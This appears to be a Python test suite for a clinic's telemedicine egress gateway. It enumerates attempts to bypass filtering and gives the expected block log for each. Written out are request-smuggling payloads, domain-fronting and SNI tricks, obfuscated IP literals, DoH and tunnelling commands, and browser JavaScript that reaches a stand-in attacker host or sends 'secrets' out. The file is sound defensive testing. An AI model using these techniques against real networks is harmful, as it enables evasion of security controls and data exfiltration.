# SPDX-License-Identifier: BSD-2-Clause
#
# The table of attempts to get around the gateway (point 4 of what the call must show), while a
# consultation is on. Each row: what is tried, how, the most that the far side may see of it, and the
# log line that must be there. `sh tests/bypass.sh` prints what happened to each.

import contextlib

from attempts import (PROXY, connect_then, curl, encrypted, hello, http2, name_twice, page, ping,
                      program, raw, request, segment, tcp, turn, udp, websocket, with_names)
from bypass import EVIL, HANDSHAKE, KERNEL, NAT64, PACKETS, REQUEST, Attempt, try_all, try_direct
from browser import Browser
from case import call, case
from consultation import SERVICE, TURN
from gateway import SERVICES
from network import GATEWAY_LAN4, GATEWAY_WAN4
from origins import address4, address6
from tlsclient import client_hello

E4, E6 = address4(EVIL), address6(EVIL)
URL = "https://%s/" % EVIL
EHR, CHAT, FILES = "ehr.example-clinic.jp", "call.telemed.example", "files.telemed.example"
SPLICED, WEB = "media.splice.example", "web.splice.example"
UNVERIFIED = {"event": "block", "reason": "unverified-destination"}
DENIED = {"event": "block", "reason": "denied-destination"}
QUERY = b"\x12\x34\1\0\0\1\0\0\0\0\0\0\6secret\4evil\7example\3org\0\0\1\0\1"
QUIC = b"\xc0\0\0\0\1\x08" + b"q" * 1194  # the beginning of an Initial of version 1
STUN = b"\0\1\0\0\x21\x12\xa4\x42" + b"t" * 12  # the head of a binding request
SYN, PUSH = 0x02, 0x18  # TCP's flags
LINK = {"event": "block", "reason": "link-from-consultation"}
NAMELESS = {"event": "refuse", "reason": "no-sni"}


def get(host, target="/", *fields):
    return ("GET %s HTTP/1.1\r\nHost: %s\r\nSec-Fetch-Mode: navigate\r\nSec-Fetch-Dest: document\r\n%s\r\n" % (
        target, host, "".join(f + "\r\n" for f in fields))).encode("latin-1")


TLS = [
    Attempt("an unknown site by its name", curl(URL), HANDSHAKE, UNVERIFIED),
    Attempt("no SNI, TLS 1.3", hello(None), record=NAMELESS),
    Attempt("SNI is an IP literal", hello("x.example.org", with_names(E4.encode())),
            record={"event": "refuse"}),
    Attempt("SNI ends in a dot", hello("x.example.org", with_names(EVIL.encode() + b".")),
            record={"event": "refuse"}),
    Attempt("SNI with a NUL", hello("x.example.org", with_names(EHR.encode() + b"\0." + EVIL.encode())),
            record={"event": "refuse"}),
    Attempt("SNI with a space", hello("x.example.org", with_names(b" " + EHR.encode())),
            record={"event": "refuse"}),
    Attempt("two names in one SNI", hello("x.example.org", with_names(EHR.encode(), EVIL.encode())),
            record={"event": "refuse"}),
    Attempt("SNI twice", hello("x.example.org", name_twice(EHR.encode(), EVIL.encode())),
            record={"event": "refuse"}),
    Attempt("ECH, outer name of a listed site", hello(EHR, encrypted), record={"event": "mismatch"}),
    Attempt("ECH, outer name unknown", hello("front.%s" % EVIL, encrypted), HANDSHAKE),
    Attempt("SNI of a spliced service to one's own address", hello(SPLICED),
            record={"event": "mismatch", "sni": SPLICED}),
    Attempt("SNI of a listed site to one's own address", hello(EHR), record={"event": "mismatch", "sni": EHR}),
    Attempt("ALPN of another protocol", hello(EVIL, alpn=("ssh",)), record={"event": "refuse"}),
    Attempt("ssh to port 443", program("ssh", "-o", "BatchMode=yes", "-o", "ConnectTimeout=3", "-p", "443",
                                       "x@" + E4), record={"event": "refuse"}),
    Attempt("not TLS to port 443", tcp(443, b"\0" * 64), record={"event": "refuse"}),
]


HTTP = [
    Attempt("fronting: Host is another than the SNI of a listed site",
            request(EHR, get(EVIL), address4(EHR)), record={"event": "block", "reason": "misdirected"},
            direct=False),
    Attempt("fronting inside a spliced service", request(WEB, get(EVIL), address4(WEB)), REQUEST, hosts=(WEB,),
            direct=False, note="cannot be seen: it ends at the service's own servers"),
    Attempt("the attachment host on the service's connection", request(CHAT, get(FILES), address4(CHAT)),
            record={"event": "block", "reason": "misdirected"}, hosts=(FILES,), direct=False),
    Attempt("a port in Host", request(None, get(EVIL + ":80"), port=80), record=UNVERIFIED),
    Attempt("userinfo in Host", request(None, get(EHR + "@" + EVIL), port=80)),
    Attempt("Host of a listed site, sent to one's own address", request(None, get(EHR), port=80),
            record={"event": "mismatch"}),
    Attempt("absolute form to one site, Host of another",
            request(None, get(EHR, URL.replace("https", "http")), port=80)),
    Attempt("absolute form of https on the plain port",
            request(None, get(EVIL, URL), port=80)),
    Attempt("two Host fields", request(None, get(EHR, "/", "Host: " + EVIL), port=80)),
    Attempt("no Host, HTTP/1.0", request(None, b"GET / HTTP/1.0\r\n\r\n", port=80)),
    Attempt("a percent sign in Host", request(None, get("%65vil.example.org"), port=80),
            record={"event": "refuse", "reason": "bad-request"}),
    Attempt("HTTP/0.9", request(None, b"GET /\r\n\r\n", port=80), record={"event": "refuse"}),
    Attempt("CONNECT to a listed site, then another SNI", connect_then(EHR + ":443", client_hello(EVIL)),
            HANDSHAKE, direct=False),
    Attempt("CONNECT to one's own site, then the SNI of a spliced service",
            connect_then(EVIL + ":443", client_hello(SPLICED)), record={"event": "mismatch"}, direct=False),
    Attempt("CONNECT to a listed site, then HTTP of another",
            connect_then(EHR + ":443", get(EVIL)), record={"event": "refuse"}, direct=False),
    Attempt("pipelined behind an allowed request",
            request(EHR, get(EHR) + get(EVIL), address4(EHR)), record={"event": "block", "reason": "misdirected"},
            direct=False),
    Attempt("smuggled: Content-Length and Transfer-Encoding",
            request(EHR, b"POST /echo HTTP/1.1\r\nHost: " + EHR.encode() +
                    b"\r\nContent-Length: 6\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n" + get(EVIL),
                    address4(EHR)), hosts=(EHR,), far=HANDSHAKE, direct=False,
            record={"event": "refuse", "reason": "bad-request"}),
    Attempt("smuggled: Transfer-Encoding that is not one",
            request(EHR, b"POST /echo HTTP/1.1\r\nHost: " + EHR.encode() +
                    b"\r\nTransfer-Encoding: xchunked\r\nContent-Length: 3\r\n\r\nabc" + get(EVIL),
                    address4(EHR)), hosts=(EHR,), far=HANDSHAKE, direct=False,
            record={"event": "refuse", "reason": "bad-request"}),
    Attempt("CONNECT inside an inspected connection",
            request(EHR, ("CONNECT %s:443 HTTP/1.1\r\nHost: %s:443\r\n\r\n" % (EVIL, EVIL)).encode(),
                    address4(EHR)), direct=False),
    Attempt("HTTP/2 in the clear, by prior knowledge",
            curl("--http2-prior-knowledge", "http://%s/" % EVIL)),
    Attempt("HTTP/2 by Upgrade", curl("--http2", "http://%s/" % EVIL), record=UNVERIFIED),
    Attempt("WebSocket of no page", websocket("wss://%s/ws" % EVIL), HANDSHAKE, UNVERIFIED),
    Attempt("WebSocket of a foreign page", websocket("wss://%s/ws" % EVIL, "https://" + EVIL), HANDSHAKE,
            UNVERIFIED),
    Attempt("a redirector that is listed, to an unknown site",
            curl("--location", "https://www.google.co.jp/url?q=" + URL), record=UNVERIFIED, direct=False),
    Attempt("its target encoded twice",
            curl("--location", "https://www.google.co.jp/url?q=https%253A%252F%252F" + EVIL),
            record=UNVERIFIED, direct=False),
    Attempt("a redirector through a redirector",
            curl("--location", "https://www.google.co.jp/url?q=https://www.google.com/url%3Fq%3D" + URL),
            record=UNVERIFIED, direct=False),
    Attempt("a shortener", curl("--location", "https://bit.ly/3xYz"), hosts=("bit.ly",), record=DENIED),
    Attempt("a listed site that redirects", curl("--location", "https://%s/away" % EHR), HANDSHAKE,
            UNVERIFIED),
]

HOSTS = [
    Attempt("IPv4 literal, https", curl("https://%s/" % E4), record=NAMELESS),
    Attempt("IPv4 literal, http", curl("http://%s/" % E4), record=UNVERIFIED),
    Attempt("decimal", request(None, get("3405803866"), port=80)),
    Attempt("hexadecimal", request(None, get("0xcb00715a"), port=80)),
    Attempt("octal", request(None, get("0313.0.0161.0132"), port=80)),
    Attempt("decimal as Chromium's kin send it", curl("http://3405803866/"), record=UNVERIFIED),
    Attempt("IPv6 literal, https", curl("https://[%s]/" % E6), record=NAMELESS),
    Attempt("IPv6 literal, http", curl("http://[%s]/" % E6), record=UNVERIFIED),
    Attempt("NAT64 literal, http", curl("http://[%s]/" % NAT64), record=UNVERIFIED),
    Attempt("NAT64 literal, https", curl("https://[%s]/" % NAT64), record=NAMELESS),
    Attempt("IPv4-mapped literal, http", curl("http://[::ffff:%s]/" % E4), record=UNVERIFIED),
    Attempt("IPv4-mapped literal by the proxy", curl("--proxy", PROXY, "http://[::ffff:%s]/" % E4),
            record={"event": "block"}, direct=False),
    Attempt("mixed case", curl("https://BiT.lY/x"), record=DENIED, hosts=("bit.ly",)),
    Attempt("a dot at the end", curl("https://bit.ly./x"), record=DENIED, hosts=("bit.ly",)),
    Attempt("a dot at the end, http", curl("http://bit.ly./x"), record=DENIED, hosts=("bit.ly",)),
    Attempt("userinfo that looks like a host", curl("https://zoom.us@%s/" % EVIL), HANDSHAKE, UNVERIFIED),
    Attempt("a listed name in front", curl("https://%s.%s/" % (CHAT.replace(".", "-"), EVIL)), HANDSHAKE,
            UNVERIFIED),
    Attempt("an IDN that looks like a service", curl("https://xn--zm-emba.%s/" % EVIL), HANDSHAKE, UNVERIFIED),
    Attempt("the gateway's own address", curl("http://%s/" % GATEWAY_WAN4), direct=False),
    Attempt("the gateway's own address by the proxy", curl("--proxy", PROXY, "http://%s/" % GATEWAY_LAN4),
            record=UNVERIFIED, direct=False),
    Attempt("rebinding: a name at the gateway's address",
            curl("http://gateway.%s/" % EVIL), record={"event": "block"}, direct=False),
    Attempt("rebinding by the proxy", curl("--proxy", PROXY, "http://gateway.%s/" % EVIL),
            record=UNVERIFIED, direct=False),
]

DNS = [
    Attempt("DoH to a known resolver", curl("--doh-url", "https://dns.google/dns-query", URL,
                                            navigate=False), record=DENIED, hosts=("dns.google",)),
    Attempt("DoH to an unknown resolver, GET",
            curl("https://doh.%s/dns-query?dns=AAABAAABAAAAAAAAA3d3dwdleGFtcGxlA2NvbQAAAQAB" % EVIL,
                 navigate=False), HANDSHAKE, {"event": "block"}),
    Attempt("DoH to an unknown resolver, POST",
            curl("-H", "Content-Type: application/dns-message", "--data-binary", "x" * 40,
                 "https://doh.%s/q" % EVIL, navigate=False), HANDSHAKE, {"event": "block"}),
    Attempt("DoH, JSON", curl("-H", "Accept: application/dns-json", "https://doh.%s/resolve?name=x" % EVIL,
                              navigate=False), HANDSHAKE, {"event": "block"}),
    Attempt("DNS over TLS", tcp(853), record=KERNEL),
    Attempt("DNS over QUIC", udp(853), record=KERNEL),
    Attempt("plain DNS elsewhere, UDP", udp(53, QUERY), record=KERNEL),
    Attempt("plain DNS elsewhere, TCP", tcp(53, len(QUERY).to_bytes(2, "big") + QUERY), record=KERNEL),
    Attempt("multicast DNS port elsewhere", udp(5353, QUERY), record=KERNEL),
]

EGRESS = [
    Attempt("ssh", program("ssh", "-o", "BatchMode=yes", "-o", "ConnectTimeout=3", "x@" + E4), record=KERNEL),
    Attempt("ssh, IPv6", program("ssh", "-o", "BatchMode=yes", "-o", "ConnectTimeout=3", "x@" + E6),
            record=KERNEL),
    Attempt("FTP", curl("ftp://%s/" % EVIL, navigate=False), record=KERNEL),
    Attempt("mail submission", tcp(587), record=KERNEL),
    Attempt("a web server on an odd port", curl("https://%s:8443/" % EVIL), record=KERNEL),
    Attempt("an HTTP proxy on an odd port", curl("--proxy", "http://%s:3128" % E4, URL), record=KERNEL),
    Attempt("an HTTP proxy on port 80", curl("--proxy", "http://%s:80" % E4, URL)),
    Attempt("SOCKS on 1080", curl("--proxy", "socks5h://%s" % E4, URL), record=KERNEL),
    Attempt("SOCKS on 443", curl("--proxy", "socks5h://%s:443" % E4, URL), record={"event": "refuse"}),
    Attempt("CONNECT to port 22 by our proxy", curl("--proxy", PROXY, "--proxytunnel",
                                                    "http://%s:22/" % EVIL),
            record={"reason": "unlisted-port"}, direct=False),
    Attempt("CONNECT to a literal by our proxy", curl("--proxy", PROXY, "https://%s/" % E4), record=NAMELESS,
            direct=False),
    Attempt("CONNECT to port 443, then ssh", connect_then(EVIL + ":443", b"SSH-2.0-x\r\n"),
            record={"event": "refuse"}, direct=False),
    Attempt("QUIC", udp(443, QUIC), record=KERNEL),
    Attempt("UDP to port 80", udp(80), record=KERNEL),
    Attempt("WireGuard", udp(51820, b"\1\0\0\0" + b"k" * 144), record=KERNEL),
    Attempt("OpenVPN", udp(1194, b"\x38" + b"s" * 13), record=KERNEL),
    Attempt("IPsec NAT traversal", udp(4500, b"\0" * 4 + b"i" * 28), record=KERNEL),
    Attempt("NTP to a foreign clock", udp(123, b"\x23" + b"\0" * 47), record=KERNEL),
    Attempt("TURN over UDP to an unknown host", turn(), record=KERNEL),
    Attempt("TURN over TCP to an unknown host", turn("-t"), record=KERNEL),
    Attempt("TURN over TLS on 443 to an unknown host", turn("-t", "-S", "-p", "443"), record=NAMELESS),
    Attempt("QUIC in fragments", udp(443, b"q" * 3000), record=KERNEL),
    Attempt("other UDP in fragments", udp(9999, b"f" * 3000), record=KERNEL),
    Attempt("a lone TCP segment with data, port 443", segment(443, PUSH, b"secrets")),
    Attempt("a lone TCP segment with data, another port", segment(22, PUSH, b"secrets")),
    Attempt("a SYN behind options of IP, port 443", segment(443, SYN, options=True)),
    Attempt("a SYN behind options of IP, another port", segment(22, SYN, options=True)),
    Attempt("UDP that begins as STUN does", udp(40000, STUN), record=KERNEL),
    Attempt("another UDP port of a service's relay", udp(5349, address=address4(TURN)), record=KERNEL,
            hosts=(TURN,)),
    Attempt("another TCP port of a service's relay", tcp(5349, address=address4(TURN)), record=KERNEL,
            hosts=(TURN,)),
    Attempt("GRE", raw(47, b"\0\0\x08\0" + b"g" * 40), record=KERNEL),
    Attempt("IPv6 in IPv4", raw(41, b"\x60" + b"\0" * 39), record=KERNEL),
    Attempt("SCTP", raw(132, b"s" * 32), record=KERNEL),
    Attempt("ping with a text in it", ping(b"secrets"), record=KERNEL),
]


PEERS = [
    Attempt("UDP that begins as STUN does", udp(40000, STUN), PACKETS,
            note="so it must be: what follows in that flow is not looked at"),
    Attempt("UDP that does not", udp(40000), record=KERNEL),
    Attempt("STUN to the port of QUIC", udp(443, STUN), record=KERNEL),
    Attempt("STUN to the port of DNS", udp(53, STUN), record=KERNEL),
]

HTTP2 = [
    Attempt("the attachment host as :authority on the service's connection",
            http2(CHAT, ":authority: " + FILES), record={"event": "block", "reason": "misdirected"},
            hosts=(FILES,), direct=False),
    Attempt("fronting: :authority is another than the SNI", http2(EHR, ":authority: " + EVIL),
            record={"event": "block", "reason": "misdirected"}, direct=False),
    Attempt("Host is another than :authority", http2(EHR, "host: " + EVIL), direct=False,
            note="the stream is refused"),
    Attempt(":path in absolute form", http2(EHR, ":path: " + URL), direct=False),
    Attempt(":scheme http on the TLS connection", http2(EHR, ":scheme: http"), direct=False),
    Attempt("WebSocket to another :authority",
            http2(EHR, ":method: CONNECT", ":protocol: websocket", ":authority: " + EVIL), direct=False),
    Attempt("CONNECT", http2(EHR, ":method: CONNECT", ":authority: %s:443" % EVIL), direct=False),
]

PART = "parts of a listed page pass; what they bring is looked into"
BROWSER = [
    Attempt("a link", page("const a = document.createElement('a'); a.href = url; document.body.append(a); "
                           "a.click();"), HANDSHAKE, LINK),
    Attempt("window.open", page("window.open(url);"), HANDSHAKE, LINK),
    Attempt("window.open with noreferrer", page("window.open(url, '_blank', 'noreferrer');"), HANDSHAKE,
            UNVERIFIED),
    Attempt("location", page("location.href = url;"), HANDSHAKE, LINK),
    Attempt("javascript: URL", page("location.href = 'javascript:void(location.href=\"' + url + '\")';"),
            HANDSHAKE, LINK),
    Attempt("meta refresh", page("document.head.insertAdjacentHTML('beforeend', "
                                 "'<meta http-equiv=refresh content=\"0;url=' + url + '\">');"), HANDSHAKE, LINK),
    Attempt("a form, POST", page("const f = document.createElement('form'); f.method = 'post'; f.action = url; "
                                 "document.body.append(f); f.submit();"), HANDSHAKE, LINK),
    Attempt("the download attribute", page("const a = document.createElement('a'); a.href = url + 'setup.exe'; "
                                           "a.download = 'x.pdf'; document.body.append(a); a.click();"),
            HANDSHAKE, LINK),
    Attempt("a frame", page("const f = document.createElement('iframe'); f.src = url; document.body.append(f);"),
            HANDSHAKE, LINK),
    Attempt("a data: URL in a frame that leads on",
            page("const f = document.createElement('iframe'); f.src = 'data:text/html,<script>location=\"' + url + "
                 "'\"</' + 'script>'; document.body.append(f);"), HANDSHAKE, UNVERIFIED),
    Attempt("a data: URL in a frame that fetches",
            page("const f = document.createElement('iframe'); f.src = 'data:text/html,<script>fetch(\"' + url + "
                 "'\", {mode: \"no-cors\"})</' + 'script>'; document.body.append(f);"), HANDSHAKE, UNVERIFIED),
    Attempt("a blob: page that leads on",
            page("window.open(URL.createObjectURL(new Blob(['<script>location=\"' + url + '\"</' + 'script>'], "
                 "{type: 'text/html'})));"), HANDSHAKE, UNVERIFIED),
    Attempt("a file that a script makes of its own bytes",
            page("const a = document.createElement('a'); a.download = 'x.exe'; "
                 "a.href = URL.createObjectURL(new Blob(['MZ'])); a.click();"), direct=False,
            note="nothing passes the gateway: the script that holds it did, from a listed site"),
    Attempt("a program fetched and made a blob", page("fetch(url + 'setup.exe').then(r => r.blob());"),
            REQUEST, {"event": "block", "reason": "dangerous-file"}),
    Attempt("prefetch", page("document.head.insertAdjacentHTML('beforeend', '<link rel=prefetch href=\"' + url + "
                             "'\">');"), HANDSHAKE, {"event": "block"}),
    Attempt("speculation rules: prefetch",
            page("const s = document.createElement('script'); s.type = 'speculationrules'; "
                 "s.textContent = JSON.stringify({prefetch: [{source: 'list', urls: [url]}]}); "
                 "document.head.append(s);"), HANDSHAKE, {"event": "block"}),
    Attempt("fetch without CORS", page("fetch(url, {mode: 'no-cors'});"), HANDSHAKE, LINK,
            note="looks as a download does"),
    Attempt("fetch by the service's page", page("fetch(url);"), REQUEST, note=PART),
    Attempt("fetch by its service worker",
            page("navigator.serviceWorker.register('/worker.js').then(() => navigator.serviceWorker.ready)"
                 ".then(r => r.active.postMessage(url));"), REQUEST, note=PART),
    Attempt("an image on it", page("new Image().src = url;"), REQUEST, note=PART),
    Attempt("WebSocket of the service's page", page("new WebSocket(url.replace('https', 'wss') + 'ws');"), REQUEST,
            note=PART),
    Attempt("WebRTC: STUN and TURN at an unknown host",
            page("const p = new RTCPeerConnection({iceServers: [{urls: 'stun:EVIL:3478'}, {urls: "
                 "'turn:EVIL:3478?transport=tcp', username: 'u', credential: 'p'}]}); p.createDataChannel('x'); "
                 "p.setLocalDescription();"), record=KERNEL),
    Attempt("WebRTC: TURN over TLS on 443 at an unknown host",
            page("const p = new RTCPeerConnection({iceTransportPolicy: 'relay', iceServers: [{urls: "
                 "'turns:EVIL:443?transport=tcp', username: 'u', credential: 'p'}]}); p.createDataChannel('x'); "
                 "p.setLocalDescription();"), HANDSHAKE, {"event": "refuse", "reason": "bad-request"}),
    Attempt("WebTransport", page("new WebTransport(url);"), record=KERNEL),
    Attempt("Alt-Svc: h3 of a listed site",
            page("fetch('/alt').then(() => fetch('/alt', {cache: 'no-store'}));", "https://%s/" % EHR), REQUEST,
            hosts=(EHR,)),
]


def table(name, rows, config=None, surroundings=None, services=None):
    """Two cases: with the gateway, while a consultation is on; and without it, where each must succeed."""
    around = surroundings or (lambda lab: contextlib.nullcontext())

    def tried(lab):
        lab.trap  # noqa: B018 - it is set
        call(lab)
        with around(lab):
            try_all(lab, rows, name)
    tried.__name__ = name.replace(" ", "_").replace("/", "_")

    def direct(lab):
        with around(lab):
            try_direct(lab, rows)
    direct.__name__ = tried.__name__ + "_direct"
    case(config, services, seconds=240)(tried)
    if any(row.direct for row in rows):
        case(gateway=False, seconds=240)(direct)


@contextlib.contextmanager
def chromium(lab):
    with Browser(lab, "clinician", without=("--disable-quic",)) as browser:
        lab.browser = browser
        yield


table("names in TLS", TLS)
table("HTTP", HTTP)
table("HTTP/2", HTTP2, {"tls": {"http2": True}}, lambda lab: lab.origins.speaking_http2())
table("hosts and addresses", HOSTS)
table("DNS", DNS)
table("what is not the web", EGRESS, services=SERVICES + SERVICE)
table("calls without a relay", PEERS,
      services=SERVICES + SERVICE.replace("reviewed", "peer-to-peer = true\n    reviewed"))
table("pages in Chromium", BROWSER, surroundings=chromium)
